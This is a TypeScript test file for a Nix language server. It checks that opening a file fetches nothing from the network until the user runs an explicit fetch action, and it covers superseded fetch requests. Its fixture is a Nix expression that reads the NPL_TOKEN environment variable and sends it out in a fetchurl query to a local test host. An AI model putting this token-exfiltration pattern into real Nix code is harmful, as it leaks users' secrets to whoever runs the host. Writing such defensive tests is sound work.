import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { serverCommands } from '../../server/src/protocol.ts';
import { startHttpHost } from '../support/httpHost.ts';
import { NixFolder } from '../support/nixFolder.ts';
import { until } from '../support/nixProcesses.ts';
import { Editor } from './support/editor.ts';
import { derivation, makeWorkspace } from './support/workspace.ts';

/** Sends a secret of the environment away in line 2. */
const leaking = (address: string): string => `let
  name = builtins.readFile (builtins.fetchurl "${address}/x?token=\${builtins.getEnv "NPL_TOKEN"}");
in
{
  x = ${derivation('${name}', '"x86_64-linux"')};
}
`;

describe('opening a file downloads nothing', () => {
  for (const [way, settings] of [
    ['of a target', { targets: [{ file: 'default.nix', attribute: 'x' }] }],
    ['of which targets have to be found', {}],
  ] as const) {
    test(`${way}; one action does, and then all is as always`, async () => {
      await using host = await startHttpHost(() => 'tool');
      using cache = new NixFolder({}, 'npl-network-');
      await using workspace = await makeWorkspace({ 'default.nix': leaking(host.address) });
      const env = { ...process.env, NPL_TOKEN: 'secret', XDG_CACHE_HOME: cache.path };
      await using editor = await Editor.start({ root: workspace.root, settings, env });
      const file = workspace.file('default.nix');
      await editor.open(file);
      const failed = await editor.evaluated();
      assert.deepEqual(host.asked, []);
      const [action] = failed.actions ?? [];
      assert.equal(action?.kind, 'fetch');
      assert.match(action.message, /needs \S+\/x\?token=secret from the network/);
      if ('targets' in settings) {
        const [diagnostic] = await editor.someDiagnostics(file);
        assert.ok(diagnostic);
        assert.equal(diagnostic.range.start.line, 1);
        const [offer] = await editor.codeActions(file, diagnostic);
        assert.equal(offer?.title, 'Fetch what is missing');
        assert.equal(offer.command?.command, serverCommands.fetchInputs);
      }

      const seen = editor.statuses.length;
      await editor.execute(serverCommands.fetchInputs);
      const done = await editor.evaluated(seen);
      assert.equal(done.state, 'done', done.message);
      assert.equal(done.summary?.rootName, 'tool');
      assert.equal(done.actions, undefined);
      assert.deepEqual(host.asked, ['/x?token=secret']);
    });
  }
});

test('who asked to fetch is told where another fetch took its place', async () => {
  // The first request is answered when the second one has taken its place.
  let answer: (text: string) => void = () => undefined;
  const later = new Promise<string>((resolve) => (answer = resolve));
  await using host = await startHttpHost(() => later);
  using cache = new NixFolder({}, 'npl-network-');
  await using workspace = await makeWorkspace({ 'default.nix': leaking(host.address) });
  const env = { ...process.env, NPL_TOKEN: 'secret', XDG_CACHE_HOME: cache.path };
  const settings = { targets: [{ file: 'default.nix', attribute: 'x' }] };
  await using editor = await Editor.start({ root: workspace.root, settings, env });
  await editor.open(workspace.file('default.nix'));
  await editor.evaluated();
  const first = assert.rejects(editor.execute(serverCommands.fetchInputs), /another download was started/);
  await until('Nix asks for it', () => host.asked.length > 0);
  const second = editor.execute(serverCommands.fetchInputs);
  await first;
  const seen = editor.statuses.length;
  answer('tool');
  await second;
  assert.equal((await editor.evaluated(seen)).summary?.rootName, 'tool');
});
